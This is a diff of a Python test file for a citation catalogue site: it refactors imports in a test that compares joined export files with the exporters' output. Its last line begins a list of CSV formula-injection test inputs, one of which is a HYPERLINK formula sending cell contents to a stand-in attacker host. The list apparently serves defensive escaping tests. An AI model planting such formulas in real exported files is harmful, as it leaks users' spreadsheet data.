@@ -479,13 +479,14 @@ def test_whole_catalogue_files_joined_from_fragments_equal_the_exporters():
     from dnm_catalogue.citations import exports
     from dnm_catalogue.records.catalogue import check_catalogue
     from dnm_catalogue.records.markup import script_json
-    from dnm_catalogue.records.query import search_text
+    from dnm_catalogue.records.query import newest_first, search_text
     from dnm_catalogue.site import fragments
-    from dnm_catalogue.site import generator as pages
+    from dnm_catalogue.site.pages import downloads
+    from dnm_catalogue.site.pages import record as record_page
 
-    records = pages.newest_first(check_catalogue([Path(__file__).parent.parent / "reports"]).records)
+    records = newest_first(check_catalogue([Path(__file__).parent.parent / "reports"]).records)
     pieces = [fragments.record_fragments(record) for record in records]
-    files = {name: content for _, name, _, content in pages.catalogue_files(records, pieces)}
+    files = {name: content for _, name, _, content in downloads.catalogue_files(records, pieces)}
     assert files["dnm-catalogue.bib"] == exports.to_bibtex(records)
     assert files["dnm-catalogue.ris"] == exports.to_ris(records)
     assert files["dnm-catalogue.csl.json"] == exports.to_csl_json(records)
@@ -500,8 +501,8 @@ def test_whole_catalogue_files_joined_from_fragments_equal_the_exporters():
     assert fragments.json_array([]) == exports.to_csl_json([])
     assert fragments.csv_file([]) == exports.to_csv([])
     for record, piece in zip(records, pieces, strict=True):
-        assert pages.record_exports(record, piece) == {
-            key: export([record]) for key, _, _, export in pages.MACHINE_FORMATS}
+        assert record_page.record_exports(record, piece) == {
+            key: export([record]) for key, _, _, export in record_page.MACHINE_FORMATS}
 
 
 FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+1+2", "-2+3", "@SUM(A1:A2)",
